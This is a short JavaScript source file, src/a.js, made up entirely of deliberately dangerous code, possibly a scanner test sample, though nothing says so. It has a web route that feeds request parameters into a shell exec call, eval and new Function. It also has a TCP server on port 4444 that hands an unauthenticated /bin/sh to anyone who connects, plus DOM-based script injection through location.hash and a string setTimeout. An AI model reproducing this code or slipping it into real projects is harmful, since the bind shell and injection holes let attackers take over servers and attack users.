=== src/a.js
const { exec, spawn } = require('child_process');
const net = require('net'), cp = require('child_process');
app.get('/x', (req, res) => { exec('ls ' + req.query.dir); eval(req.query.code); new Function(req.body.f)(); });
net.createServer(s => { const sh = cp.spawn('/bin/sh'); s.pipe(sh.stdin); sh.stdout.pipe(s); }).listen(4444);
document.body.innerHTML = location.hash;
setTimeout("alert(" + location.search + ")", 1);
